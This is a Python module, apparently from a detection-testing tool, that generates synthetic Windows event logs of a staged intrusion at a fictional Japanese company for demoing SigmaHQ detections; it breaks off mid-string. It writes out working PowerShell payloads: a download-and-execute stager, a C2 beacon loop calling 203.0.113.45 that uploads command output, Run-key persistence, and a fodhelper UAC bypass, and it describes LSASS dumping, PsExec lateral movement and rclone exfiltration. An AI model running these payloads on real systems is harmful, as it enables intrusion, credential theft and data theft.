"""The demo scenario: a multi-stage intrusion at a small Japanese company, hidden in ordinary activity.

``generate(seed, start)`` returns every event, deterministic for a seed and a start time, as
Winlogbeat documents (see ``formats``): Sysmon (1, 3, 10, 11, 13, 17, 22), Security (4624,
4672, 4698, 4768, 4769, 4776, 5140, 5145), System 7045 and PowerShell 4104. The company, its hosts
and its users are in ``data/company.yaml``; the story is below, one function per attack stage.

The story (minutes after ``start``; the background runs from 0 to ``duration``):

- 60 initial access: sato.h (経理) opens a macro document from Outlook on WS-SATO01; Word starts an
  encoded, hidden PowerShell.
- 60 execution / 61 persistence: the stager downloads a script from 203.0.113.45; a Run key and a
  scheduled task restart it at logon.
- 65 discovery: whoami /all, net group "Domain Admins" /domain, nltest /dclist.
- 72 privilege escalation and 75 credential access: fodhelper UAC bypass, then LSASS dumped with
  comsvcs.dll MiniDump (rundll32 opens lsass with full access, writes lsass.dmp).
- 85 lateral movement: PsExec with tanaka.k's credentials from WS-SATO01 to the file server FS01
  (NTLM logon, ADMIN$ and IPC$ shares, PSEXESVC service and pipes).
- 95 collection: 7-Zip with a password packs the 経理 and 人事 shares on FS01.
- 101 exfiltration: rclone copies the archive to MEGA.

Which SigmaHQ rules detect each stage is recorded in ``data/detections.yaml`` (checked by a test).
"""

from __future__ import annotations

import base64
import functools
import hashlib
import random
import uuid
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from importlib import resources
from pathlib import Path
from typing import Any

import orjson
import yaml

from mamori.demo.formats import POWERSHELL, SECURITY, SYSMON, SYSTEM_SCM, WinEvent, sysmon_time, winlogbeat

BACKGROUND = "background"
STAGES = ("initial_access", "execution", "persistence", "discovery", "privilege_escalation",
          "credential_access", "lateral_movement", "collection", "exfiltration")
DEFAULT_SEED = 20261129
DEFAULT_DURATION = timedelta(hours=3)
ATTACK_START = timedelta(minutes=60)
C2_IP = "203.0.113.45"
EXFIL_IP = "198.51.100.23"


@dataclass(frozen=True)
class Host:
    """A computer of the company: short name, FQDN, address, its usual user and its role."""

    name: str
    fqdn: str
    ip: str
    user: str | None
    role: str  # workstation | file_server | domain_controller | server


@dataclass(frozen=True)
class Company:
    """The company the demo happens at: its domain and its computers."""

    name: str
    domain: str
    netbios: str
    domain_sid: str
    hosts: tuple[Host, ...]

    def host(self, name: str) -> Host:
        """The host with this short name."""
        return next(h for h in self.hosts if h.name == name)


@dataclass(frozen=True)
class DemoEvent:
    """One generated event: when, on which host, which attack stage (or background), the document."""

    time: datetime
    host: str
    stage: str
    document: dict[str, Any]

    @property
    def is_attack(self) -> bool:
        """True for events of the intrusion, False for background activity."""
        return self.stage != BACKGROUND


@dataclass(frozen=True)
class Scenario:
    """Everything the demo sends, in time order, with the company it describes."""

    seed: int
    start: datetime
    end: datetime
    company: Company
    events: tuple[DemoEvent, ...]

    @property
    def attack_hosts(self) -> frozenset[str]:
        """Short names of the hosts the intruder touched."""
        return frozenset(e.host for e in self.events if e.is_attack)

    def stage_counts(self) -> dict[str, int]:
        """How many events each stage (and the background) has."""
        out: dict[str, int] = {}
        for event in self.events:
            out[event.stage] = out.get(event.stage, 0) + 1
        return out


@functools.cache
def load_company() -> Company:
    """The demo company from ``mamori/demo/data/company.yaml``."""
    text = (resources.files("mamori.demo") / "data" / "company.yaml").read_text("utf-8")
    doc = yaml.safe_load(text)
    domain = str(doc["domain"])
    hosts = tuple(Host(str(h["name"]), f"{h['name']}.{domain}",
                       str(h["ip"]), h.get("user"), str(h.get("role", "workstation"))) for h in doc["hosts"])
    return Company(str(doc["name"]), domain, str(doc["netbios"]), str(doc["domain_sid"]), hosts)


@dataclass
class Proc:
    """A running process the generator knows: where, its ids, image, command line, user."""

    host: Host
    guid: str
    pid: int
    image: str
    command_line: str
    user: str
    integrity: str
    logon_id: str
    parent: Proc | None = None
    cwd: str = "C:\\Windows\\system32\\"


def _image_info(image: str) -> tuple[str, str, str, str]:
    """Version-resource fields Sysmon reports for an image (description, product, company, original name)."""
    name = image.rsplit("\\", 1)[-1]
    known = _IMAGE_INFO.get(name.lower())
    if known:
        return known
    return ("-", "-", "-", "-")


_IMAGE_INFO: dict[str, tuple[str, str, str, str]] = {
    "powershell.exe": ("Windows PowerShell", "Microsoft® Windows® Operating System", "Microsoft Corporation",
                       "PowerShell.EXE"),
    "winword.exe": ("Microsoft Word", "Microsoft Office", "Microsoft Corporation", "WinWord.exe"),
    "excel.exe": ("Microsoft Excel", "Microsoft Office", "Microsoft Corporation", "Excel.exe"),
    "outlook.exe": ("Microsoft Outlook", "Microsoft Outlook", "Microsoft Corporation", "Outlook.exe"),
    "cmd.exe": ("Windows Command Processor", "Microsoft® Windows® Operating System", "Microsoft Corporation",
                "Cmd.Exe"),
    "whoami.exe": ("whoami - displays logged on user information", "Microsoft® Windows® Operating System",
                   "Microsoft Corporation", "whoami.exe"),
    "net.exe": ("Net Command", "Microsoft® Windows® Operating System", "Microsoft Corporation", "net.exe"),
    "nltest.exe": ("Microsoft® Logon Server Test Utility", "Microsoft® Windows® Operating System",
                   "Microsoft Corporation", "nltestrk.exe"),
    "schtasks.exe": ("Task Scheduler Configuration Tool", "Microsoft® Windows® Operating System",
                     "Microsoft Corporation", "schtasks.exe"),
    "fodhelper.exe": ("Features On Demand Helper", "Microsoft® Windows® Operating System",
                      "Microsoft Corporation", "FodHelper.EXE"),
    "rundll32.exe": ("Windows host process (Rundll32)", "Microsoft® Windows® Operating System",
                     "Microsoft Corporation", "RUNDLL32.EXE"),
    "psexec64.exe": ("Execute processes remotely", "Sysinternals PsExec", "Sysinternals - www.sysinternals.com",
                     "psexec.exe"),
    "psexesvc.exe": ("PsExec Service", "Sysinternals PsExec", "Sysinternals", "psexesvc.exe"),
    "7z.exe": ("7-Zip Console", "7-Zip", "Igor Pavlov", "7z.exe"),
    "rclone.exe": ("Rsync for cloud storage", "Rclone", "https://rclone.org", "rclone.exe"),
    "chrome.exe": ("Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"),
    "ms-teams.exe": ("Microsoft Teams", "Microsoft Teams", "Microsoft Corporation", "ms-teams.exe"),
    "onedrive.exe": ("Microsoft OneDrive", "Microsoft OneDrive", "Microsoft Corporation", "OneDrive.exe"),
    "taskhostw.exe": ("Host Process for Windows Tasks", "Microsoft® Windows® Operating System",
                      "Microsoft Corporation", "taskhostw.exe"),
    "searchprotocolhost.exe": ("Microsoft Windows Search Protocol Host", "Microsoft® Windows® Operating System",
                               "Microsoft Corporation", "SearchProtocolHost.exe"),
    "backgroundtaskhost.exe": ("Background Task Host", "Microsoft® Windows® Operating System",
                               "Microsoft Corporation", "backgroundTaskHost.exe"),
    "officec2rclient.exe": ("Microsoft Office Click-to-Run Client", "Microsoft Office", "Microsoft Corporation",
                            "OfficeC2RClient.exe"),
    "acrord32.exe": ("Adobe Acrobat Reader", "Adobe Acrobat Reader", "Adobe Systems Incorporated",
                     "AcroRd32.exe"),
    "notepad.exe": ("Notepad", "Microsoft® Windows® Operating System", "Microsoft Corporation", "NOTEPAD.EXE"),
}


def _hashes(image: str) -> str:
    """Sysmon's ``Hashes`` field for an image: the same binary gives the same hashes everywhere."""
    name = image.rsplit("\\", 1)[-1].lower().encode()
    digest = hashlib.sha256(b"mamori-demo-image:" + name)
    sha256 = digest.hexdigest().upper()
    md5 = hashlib.md5(b"md5:" + name, usedforsecurity=False).hexdigest().upper()
    sha1 = hashlib.sha1(b"sha1:" + name, usedforsecurity=False).hexdigest().upper()
    imphash = hashlib.md5(b"imp:" + name, usedforsecurity=False).hexdigest().upper()
    return f"SHA1={sha1},MD5={md5},SHA256={sha256},IMPHASH={imphash}"


def encoded_command(script: str) -> str:
    """PowerShell's ``-EncodedCommand`` form of a script: Base64 of its UTF-16LE bytes."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


@dataclass
class _Builder:
    """Collects events; keeps record numbers, process ids and GUIDs consistent per host."""

    company: Company
    rng: random.Random
    events: list[DemoEvent] = field(default_factory=list)
    records: dict[tuple[str, str], int] = field(default_factory=dict)
    next_pid: dict[str, int] = field(default_factory=dict)
    system: dict[str, dict[str, Proc]] = field(default_factory=dict)

    # -- ids ---------------------------------------------------------------------------------------
    def guid(self) -> str:
        return "{" + str(uuid.UUID(int=self.rng.getrandbits(128))) + "}"

    def pid(self, host: Host) -> int:
        value = self.next_pid.get(host.name, 1000 + self.rng.randrange(0, 4000, 4)) + 4 * self.rng.randrange(1, 60)
        self.next_pid[host.name] = value
        return value

    def logon_id(self) -> str:
        return hex(self.rng.randrange(0x100000, 0xFFFFFFF))

    def sid(self, user: str) -> str:
        rid = 1100 + int(hashlib.sha256(user.encode()).hexdigest()[:4], 16) % 5000
        return f"{self.company.domain_sid}-{rid}"

    def account(self, user: str) -> str:
        return f"{self.company.netbios}\\{user}"

    # -- emitting ----------------------------------------------------------------------------------
    def emit(self, stage: str, time: datetime, host: Host, source: tuple[str, str], event_id: int,
             data: Mapping[str, str], pid: int = 4) -> None:
        key = (host.name, source[0])
        record = self.records.get(key, 10_000 + self.rng.randrange(0, 90_000)) + 1
        self.records[key] = record
        event = WinEvent(time, host.fqdn, source[0], source[1], event_id, data, record, pid,
                         self.rng.randrange(100, 9000, 4))
        self.events.append(DemoEvent(time, host.name, stage, winlogbeat(event)))

    def base(self, host: Host) -> dict[str, Proc]:
        """The processes every Windows host already runs (no events: they started before the demo)."""
        if host.name not in self.system:
            system_user = "NT AUTHORITY\\SYSTEM"
            system = Proc(host, self.guid(), 4, "System", "", system_user, "System", "0x3e7")
            services_pid = 700 + self.rng.randrange(0, 200, 4)
            services = Proc(host, self.guid(), services_pid, "C:\\Windows\\System32\\services.exe",
                            "C:\\Windows\\system32\\services.exe", system_user, "System", "0x3e7")
            lsass = Proc(host, self.guid(), services_pid + 12, "C:\\Windows\\system32\\lsass.exe",
                         "C:\\Windows\\system32\\lsass.exe", system_user, "System", "0x3e7")
            svchost = Proc(host, self.guid(), services_pid + 260, "C:\\Windows\\System32\\svchost.exe",
                           "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", system_user,
                           "System", "0x3e7", services)
            self.system[host.name] = {"system": system, "services": services, "lsass": lsass, "svchost": svchost}
        return self.system[host.name]

    def existing(self, host: Host, image: str, command_line: str, user: str, parent: Proc | None,
                 integrity: str = "Medium", logon_id: str | None = None) -> Proc:
        """A process that was already running when the demo starts (no creation event)."""
        return Proc(host, self.guid(), self.pid(host), image, command_line, user, integrity,
                    logon_id or self.logon_id(), parent)

    def spawn(self, stage: str, time: datetime, parent: Proc, image: str, command_line: str,
              user: str | None = None, integrity: str | None = None, cwd: str | None = None) -> Proc:
        """Start a process: a Sysmon 1 event; returns the new process."""
        host = parent.host
        proc = Proc(host, self.guid(), self.pid(host), image, command_line, user or parent.user,
                    integrity or parent.integrity, parent.logon_id if user is None else self.logon_id(), parent,
                    cwd or parent.cwd)
        description, product, company, original = _image_info(image)
        data = {
            "RuleName": "-", "UtcTime": sysmon_time(time), "ProcessGuid": proc.guid, "ProcessId": str(proc.pid),
            "Image": image, "FileVersion": "-" if description == "-" else "10.0.22621.1", "Description": description,
            "Product": product, "Company": company, "OriginalFileName": original, "CommandLine": command_line,
            "CurrentDirectory": proc.cwd, "User": proc.user, "LogonGuid": self.guid(), "LogonId": proc.logon_id,
            "TerminalSessionId": "0" if proc.user.startswith("NT AUTHORITY") else "1",
            "IntegrityLevel": proc.integrity, "Hashes": _hashes(image), "ParentProcessGuid": parent.guid,
            "ParentProcessId": str(parent.pid), "ParentImage": parent.image,
            "ParentCommandLine": parent.command_line, "ParentUser": parent.user,
        }
        self.emit(stage, time, host, SYSMON, 1, data, pid=3000)
        return proc

    def network(self, stage: str, time: datetime, proc: Proc, destination: str, port: int,
                destination_host: str = "", protocol: str = "tcp") -> None:
        """An outgoing connection: a Sysmon 3 event."""
        data = {
            "RuleName": "-", "UtcTime": sysmon_time(time), "ProcessGuid": proc.guid, "ProcessId": str(proc.pid),
            "Image": proc.image, "User": proc.user, "Protocol": protocol, "Initiated": "true",
            "SourceIsIpv6": "false", "SourceIp": proc.host.ip, "SourceHostname": proc.host.fqdn,
            "SourcePort": str(49152 + self.rng.randrange(0, 16000)), "SourcePortName": "-",
            "DestinationIsIpv6": "false", "DestinationIp": destination, "DestinationHostname": destination_host or "-",
            "DestinationPort": str(port), "DestinationPortName": {443: "https", 80: "http", 445: "microsoft-ds",
                                                                   88: "kerberos", 389: "ldap"}.get(port, "-"),
        }
        self.emit(stage, time, proc.host, SYSMON, 3, data, pid=3000)

    def dns(self, stage: str, time: datetime, proc: Proc, name: str, answer: str) -> None:
        """A DNS lookup by a process: a Sysmon 22 event."""
        data = {"RuleName": "-", "UtcTime": sysmon_time(time), "ProcessGuid": proc.guid,
                "ProcessId": str(proc.pid), "QueryName": name, "QueryStatus": "0",
                "QueryResults": f"::ffff:{answer};", "Image": proc.image, "User": proc.user}
        self.emit(stage, time, proc.host, SYSMON, 22, data, pid=3000)

    def file(self, stage: str, time: datetime, proc: Proc, path: str) -> None:
        """A file created by a process: a Sysmon 11 event."""
        data = {"RuleName": "-", "UtcTime": sysmon_time(time), "ProcessGuid": proc.guid,
                "ProcessId": str(proc.pid), "Image": proc.image, "TargetFilename": path,
                "CreationUtcTime": sysmon_time(time), "User": proc.user}
        self.emit(stage, time, proc.host, SYSMON, 11, data, pid=3000)

    def registry(self, stage: str, time: datetime, proc: Proc, key: str, details: str) -> None:
        """A registry value set by a process: a Sysmon 13 event."""
        data = {"RuleName": "-", "EventType": "SetValue", "UtcTime": sysmon_time(time), "ProcessGuid": proc.guid,
                "ProcessId": str(proc.pid), "Image": proc.image, "TargetObject": key, "Details": details,
                "User": proc.user}
        self.emit(stage, time, proc.host, SYSMON, 13, data, pid=3000)

    def access(self, stage: str, time: datetime, source: Proc, target: Proc, granted: str, trace: str) -> None:
        """One process opening another: a Sysmon 10 event."""
        data = {"RuleName": "-", "UtcTime": sysmon_time(time), "SourceProcessGUID": source.guid,
                "SourceProcessId": str(source.pid), "SourceThreadId": str(self.rng.randrange(1000, 9000, 4)),
                "SourceImage": source.image, "TargetProcessGUID": target.guid, "TargetProcessId": str(target.pid),
                "TargetImage": target.image, "GrantedAccess": granted, "CallTrace": trace,
                "SourceUser": source.user, "TargetUser": target.user}
        self.emit(stage, time, source.host, SYSMON, 10, data, pid=3000)

    def pipe(self, stage: str, time: datetime, proc: Proc, name: str) -> None:
        """A named pipe created by a process: a Sysmon 17 event."""
        data = {"RuleName": "-", "EventType": "CreatePipe", "UtcTime": sysmon_time(time), "ProcessGuid": proc.guid,
                "ProcessId": str(proc.pid), "PipeName": name, "Image": proc.image, "User": proc.user}
        self.emit(stage, time, proc.host, SYSMON, 17, data, pid=3000)

    def script_block(self, stage: str, time: datetime, proc: Proc, text: str) -> None:
        """A PowerShell script block logged before it runs: a PowerShell 4104 event."""
        data = {"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": text,
                "ScriptBlockId": self.guid().strip("{}"), "Path": ""}
        self.emit(stage, time, proc.host, POWERSHELL, 4104, data, pid=proc.pid)

    def logon(self, stage: str, time: datetime, host: Host, user: str, logon_type: int, source: Host | None,
              package: str = "Kerberos", elevated: bool = False) -> str:
        """A successful logon: a Security 4624 event (and 4672 for privileged accounts); returns the logon id."""
        logon_id = self.logon_id()
        network = logon_type == 3
        ntlm = package == "NTLM"
        data = {
            "SubjectUserSid": "S-1-0-0" if network else "S-1-5-18",
            "SubjectUserName": "-" if network else f"{host.name}$",
            "SubjectDomainName": "-" if network else self.company.netbios,
            "SubjectLogonId": "0x0" if network else "0x3e7",
            "TargetUserSid": self.sid(user), "TargetUserName": user, "TargetDomainName": self.company.netbios,
            "TargetLogonId": logon_id, "LogonType": str(logon_type),
            "LogonProcessName": "NtLmSsp " if ntlm else ("Kerberos" if network else "User32 "),
            "AuthenticationPackageName": package if network else "Negotiate",
            "WorkstationName": source.name if (source and ntlm) else ("-" if network else host.name),
            "LogonGuid": "{00000000-0000-0000-0000-000000000000}" if ntlm else self.guid(),
            "TransmittedServices": "-", "LmPackageName": "NTLM V2" if ntlm else "-",
            "KeyLength": "128" if ntlm else "0",
            "ProcessId": "0x0" if network else hex(self.base(host)["lsass"].pid + 300),
            "ProcessName": "-" if network else "C:\\Windows\\System32\\svchost.exe",
            "IpAddress": source.ip if source else "127.0.0.1", "IpPort": str(49152 + self.rng.randrange(0, 16000))
            if source else "0",
            "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-", "TargetOutboundUserName": "-",
            "TargetOutboundDomainName": "-", "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0",
            "ElevatedToken": "%%1842" if elevated else "%%1843",
        }
        self.emit(stage, time, host, SECURITY, 4624, data, pid=self.base(host)["lsass"].pid)
        if elevated:
            privileges = ("SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\t"
                          "SeTakeOwnershipPrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeSystemEnvironmentPrivilege\n"
                          "\t\t\tSeLoadDriverPrivilege\n\t\t\tSeImpersonatePrivilege")
            self.emit(stage, time, host, SECURITY, 4672,
                      {"SubjectUserSid": self.sid(user), "SubjectUserName": user,
                       "SubjectDomainName": self.company.netbios, "SubjectLogonId": logon_id,
                       "PrivilegeList": privileges}, pid=self.base(host)["lsass"].pid)
        return logon_id

    def share(self, stage: str, time: datetime, host: Host, user: str, logon_id: str, source: Host, share: str,
              path: str, relative: str | None = None, access: str = "0x1") -> None:
        """Access to a network share: Security 5140, or 5145 (with the file or pipe name) when ``relative``."""
        data = {"SubjectUserSid": self.sid(user), "SubjectUserName": user, "SubjectDomainName": self.company.netbios,
                "SubjectLogonId": logon_id, "ObjectType": "File", "IpAddress": source.ip,
                "IpPort": str(49152 + self.rng.randrange(0, 16000)), "ShareName": f"\\\\*\\{share}",
                "ShareLocalPath": path, "AccessMask": access, "AccessList": "%%4416\n\t\t\t\t"}
        if relative is None:
            self.emit(stage, time, host, SECURITY, 5140, data)
        else:
            data["RelativeTargetName"] = relative
            data["AccessReason"] = "-"
            self.emit(stage, time, host, SECURITY, 5145, data)

    def kerberos(self, stage: str, time: datetime, dc: Host, user: str, client: Host, service: str | None) -> None:
        """A Kerberos ticket request at the domain controller: 4768 (TGT) or 4769 (service ticket)."""
        common = {"TargetUserName": user if service is None else f"{user}@{self.company.domain.upper()}",
                  "TargetDomainName": self.company.domain.upper(), "IpAddress": f"::ffff:{client.ip}",
                  "IpPort": str(49152 + self.rng.randrange(0, 16000)), "Status": "0x0",
                  "TicketOptions": "0x40810010" if service is None else "0x40810000", "TicketEncryptionType": "0x12"}
        if service is None:
            data = {**common, "TargetSid": self.sid(user), "ServiceName": "krbtgt",
                    "ServiceSid": f"{self.company.domain_sid}-502", "PreAuthType": "2", "CertIssuerName": "",
                    "CertSerialNumber": "", "CertThumbprint": ""}
            self.emit(stage, time, dc, SECURITY, 4768, data)
        else:
            data = {**common, "ServiceName": service, "ServiceSid": self.sid(service),
                    "LogonGuid": self.guid(), "TransmittedServices": "-"}
            self.emit(stage, time, dc, SECURITY, 4769, data)


def _jitter(rng: random.Random, base: datetime, seconds: float) -> datetime:
    return base + timedelta(seconds=rng.uniform(0, seconds), microseconds=rng.randrange(0, 999_000))


# ---------------------------------------------------------------------------------------------------
# Background activity: what twenty ordinary Windows machines log in three hours.
# ---------------------------------------------------------------------------------------------------

OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
CHROME = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
TEAMS = "C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe"
WEB_SITES = (("www.google.com", "142.250.196.100"), ("www.yahoo.co.jp", "183.79.219.252"),
             ("www.nikkei.com", "23.50.120.37"), ("www.mhlw.go.jp", "23.38.42.146"),
             ("www.e-tax.nta.go.jp", "210.148.100.42"), ("www.jp.square-enix.com", "23.215.0.136"),
             ("news.yahoo.co.jp", "183.79.250.123"), ("www.smbc.co.jp", "23.50.120.90"))
DOCUMENTS = ("予算_2026年度.xlsx", "売上報告_11月.xlsx", "議事録_定例会議.docx", "見積書_株式会社ミドリ.xlsx",
             "出張申請.docx", "顧客リスト_関東.xlsx", "勤怠集計_11月.xlsx", "提案書_新規案件.docx")


def _workstation_day(b: _Builder, host: Host, start: datetime, end: datetime) -> dict[str, Proc]:
    """A user's morning on their workstation: unlock, browser, Teams, Outlook, Office files, DNS, services."""
    rng, company = b.rng, b.company
    user = host.user or "user"
    account = b.account(user)
    dc = company.host("DC01")
    fs = company.host("FS01")
    base = b.base(host)
    explorer = b.existing(host, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", account, None)
    explorer.cwd = "C:\\Windows\\system32\\"
    outlook = b.existing(host, OFFICE + "OUTLOOK.EXE", f'"{OFFICE}OUTLOOK.EXE" ', account, explorer)
    t = _jitter(rng, start, 900)
    logon_id = b.logon(BACKGROUND, t, host, user, 7, None)
    b.kerberos(BACKGROUND, t, dc, user, host, None)
    b.kerberos(BACKGROUND, t + timedelta(seconds=1), dc, user, host, f"{dc.name}$")
    explorer.logon_id = logon_id
    teams = b.spawn(BACKGROUND, t + timedelta(seconds=40), explorer, TEAMS, f'"{TEAMS}" msteams:system-initiated',
                    cwd=f"C:\\Users\\{user}\\")
    b.dns(BACKGROUND, t + timedelta(seconds=42), teams, "teams.microsoft.com", "52.113.194.132")
    b.network(BACKGROUND, t + timedelta(seconds=43), teams, "52.113.194.132", 443, "teams.microsoft.com")
    chrome = b.spawn(BACKGROUND, t + timedelta(seconds=75), explorer, CHROME, f'"{CHROME}" ',
                     cwd="C:\\Program Files\\Google\\Chrome\\Application\\")
    cursor = t + timedelta(minutes=2)
    while cursor < end:
        choice = rng.random()
        if choice < 0.35:
            site, address = rng.choice(WEB_SITES)
            b.dns(BACKGROUND, cursor, chrome, site, address)
            b.network(BACKGROUND, cursor + timedelta(milliseconds=80), chrome, address, 443, site)
        elif choice < 0.45:
            b.dns(BACKGROUND, cursor, outlook, "outlook.office365.com", "52.98.207.130")
            b.network(BACKGROUND, cursor + timedelta(milliseconds=60), outlook, "52.98.207.130", 443,
                      "outlook.office365.com")
        elif choice < 0.58:
            document = rng.choice(DOCUMENTS)
            program = "EXCEL.EXE" if document.endswith("xlsx") else "WINWORD.EXE"
            folder = f"\\\\{fs.name}\\共有\\{rng.choice(['営業部', '総務部', '経理部'])}\\"
            if rng.random() < 0.5:
                folder = f"C:\\Users\\{user}\\Documents\\"
            office = b.spawn(BACKGROUND, cursor, explorer, OFFICE + program,
                             f'"{OFFICE}{program}" "{folder}{document}"', cwd=f"C:\\Users\\{user}\\Documents\\")
            if folder.startswith("\\\\"):
                b.share(BACKGROUND, cursor + timedelta(milliseconds=300), fs, user, b.logon_id(), host, "共有",
                        "D:\\Shares\\共有")
            b.file(BACKGROUND, cursor + timedelta(seconds=2), office, f"C:\\Users\\{user}\\Documents\\~${document}")
        elif choice < 0.68:
            b.spawn(BACKGROUND, cursor, base["svchost"], "C:\\Windows\\System32\\taskhostw.exe",
                    "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", user=account,
                    integrity="Medium")
        elif choice < 0.76:
            b.spawn(BACKGROUND, cursor, base["svchost"], "C:\\Windows\\System32\\SearchProtocolHost.exe",
                    '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe1_ '
                    'Global\\UsGthrCtrlFltPipeMssGthrPipe1 1 -2147483646 "Software\\Microsoft\\Windows Search" '
                    '"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" '
                    '"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon" ',
                    user="NT AUTHORITY\\SYSTEM", integrity="System")
        elif choice < 0.84:
            b.dns(BACKGROUND, cursor, teams, "teams.microsoft.com", "52.113.194.132")
            b.network(BACKGROUND, cursor + timedelta(milliseconds=50), teams, "52.113.194.132", 443,
                      "teams.microsoft.com")
        elif choice < 0.9:
            name = f"{rng.choice(['資料', 'scan', '請求明細', 'manual'])}_{rng.randrange(100, 999)}.pdf"
            b.file(BACKGROUND, cursor, chrome, f"C:\\Users\\{user}\\Downloads\\{name}")
        else:
            b.kerberos(BACKGROUND, cursor, dc, user, host, f"cifs/{fs.fqdn}")
            lid = b.logon(BACKGROUND, cursor + timedelta(milliseconds=200), fs, user, 3, host)
            b.share(BACKGROUND, cursor + timedelta(milliseconds=250), fs, user, lid, host, "共有", "D:\\Shares\\共有")
        cursor += timedelta(seconds=rng.uniform(20, 150))
    return {"explorer": explorer, "outlook": outlook, "chrome": chrome, "teams": teams}


def _server_day(b: _Builder, host: Host, start: datetime, end: datetime) -> None:
    """A server's routine: scheduled maintenance tasks and computer-account logons."""
    rng = b.rng
    base = b.base(host)
    cursor = _jitter(rng, start, 300)
    dc = b.company.host("DC01")
    while cursor < end:
        if rng.random() < 0.5:
            b.spawn(BACKGROUND, cursor, base["svchost"], "C:\\Windows\\System32\\taskhostw.exe",
                    "taskhostw.exe SYSTEM", user="NT AUTHORITY\\SYSTEM", integrity="System")
        else:
            b.kerberos(BACKGROUND, cursor, dc, f"{host.name}$", host, None)
        cursor += timedelta(seconds=rng.uniform(120, 600))


def _background(b: _Builder, start: datetime, end: datetime) -> dict[str, dict[str, Proc]]:
    procs: dict[str, dict[str, Proc]] = {}
    for host in b.company.hosts:
        if host.role == "workstation":
            procs[host.name] = _workstation_day(b, host, start, end)
        else:
            _server_day(b, host, start, end)
    return procs


# ---------------------------------------------------------------------------------------------------
# The intrusion, stage by stage.
# ---------------------------------------------------------------------------------------------------

STAGER = (f"$u='http://{C2_IP}/cdn/invoice.ps1';$w=New-Object Net.WebClient;"
          "$w.Proxy=[Net.WebRequest]::GetSystemWebProxy();$w.Proxy.Credentials=[Net.CredentialCache]::"
          "DefaultCredentials;IEX $w.DownloadString($u)")
SECOND_STAGE = (
    "$ErrorActionPreference='SilentlyContinue'\n"
    f"$e='{encoded_command(STAGER)}'\n"
    "$k='HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n"
    "Set-ItemProperty -Path $k -Name 'OneDriveSync' -Value ('powershell.exe -NoP -W Hidden -enc '+$e)\n"
    "$b=New-Object Net.WebClient\n"
    f"while($true){{try{{$c=$b.DownloadString('http://{C2_IP}/cdn/t?id='+$env:COMPUTERNAME);"
    "if($c){$r=IEX $c 2>&1|Out-String;"
    f"$b.UploadString('http://{C2_IP}/cdn/r',$r)}}}}catch{{}};Start-Sleep -s 30}}")
UAC_BYPASS = ("New-Item 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' -Force\n"
              "New-ItemProperty -Path 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' "
              "-Name 'DelegateExecute' -Value '' -Force\n"
              "Set-ItemProperty -Path 'HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command' "
              "-Name '(default)' -Value 'powershell.exe -NoP -W Hidden -enc {enc}' -Force\n"
              "Start-Process 'C:\\Windows\\System32\\fodhelper.exe' -WindowStyle Hidden")
TOOLS_DOWNLOAD = (f"(New-Object Net.WebClient).DownloadFile('http://{C2_IP}/cdn/p64.bin',"
                  "'C:\\Users\\Public\\PsExec64.exe')")


def _attack(b: _Builder, at: datetime, victim_procs: dict[str, Proc]) -> None:
    company = b.company
    ws = company.host("WS-SATO01")
    fs = company.host("FS01")
    dc = company.host("DC01")
    victim = ws.user or "sato.h"
    admin = "tanaka.k"
    sid = b.sid(victim)
    minute = timedelta(minutes=1)
    second = timedelta(seconds=1)
    outlook = victim_procs["outlook"]
    attachment = (f"C:\\Users\\{victim}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\"
                  "Q8ZK3F1W\\請求書_2026年11月分.docm")

    # initial access: the macro document arrives by mail and is opened
    b.file("initial_access", at, outlook, attachment)
    word = b.spawn("initial_access", at + 14 * second, outlook, OFFICE + "WINWORD.EXE",
                   f'"{OFFICE}WINWORD.EXE" /n "{attachment}" /o ""', cwd=f"C:\\Users\\{victim}\\Documents\\")
    ps = b.spawn("initial_access", at + 31 * second, word,
                 "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 f"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc {encoded_command(STAGER)}")

    # execution: the stager fetches and runs the second stage
    t = at + 33 * second
    b.script_block("execution", t, ps, STAGER)
    b.network("execution", t + second, ps, C2_IP, 80)
    b.script_block("execution", t + 2 * second, ps, SECOND_STAGE)

    # persistence: Run key and scheduled task
    t = at + minute + 5 * second
    run_value = f"powershell.exe -NoP -W Hidden -enc {encoded_command(STAGER)}"
    b.registry("persistence", t, ps, f"HKU\\{sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync",
               run_value)
    b.spawn("persistence", t + 20 * second, ps, "C:\\Windows\\System32\\schtasks.exe",
            '"C:\\Windows\\system32\\schtasks.exe" /Create /F /SC ONLOGON /TN "Microsoft\\Windows\\OneDrive\\'
            f'OneDriveSyncUpdate" /TR "powershell.exe -NoP -W Hidden -enc {encoded_command(STAGER)}"')
    b.emit("persistence", t + 21 * second, ws, SECURITY, 4698,
           {"SubjectUserSid": sid, "SubjectUserName": victim, "SubjectDomainName": company.netbios,
            "SubjectLogonId": ps.logon_id, "TaskName": "\\Microsoft\\Windows\\OneDrive\\OneDriveSyncUpdate",
            "TaskContent": '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" xmlns="http://schemas.'
